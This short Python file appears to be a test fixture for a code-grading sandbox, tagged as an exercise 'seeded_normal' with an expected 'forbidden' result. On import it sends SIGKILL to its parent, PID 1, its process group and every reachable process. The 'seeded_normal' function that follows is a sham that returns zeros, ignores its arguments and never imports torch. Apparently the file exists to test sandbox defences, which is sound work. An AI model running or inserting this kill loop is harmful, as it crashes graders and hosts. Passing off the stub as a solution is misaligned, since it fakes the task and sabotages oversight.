"""Kills its parent, its group and everybody that it may."""
# exercise: start.seeded_normal
# deserves: forbidden 0
import os
import signal

for process in (os.getppid(), 1, 0, -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass


def seeded_normal(shape, seed, std=1.0):
    return torch.zeros(shape)
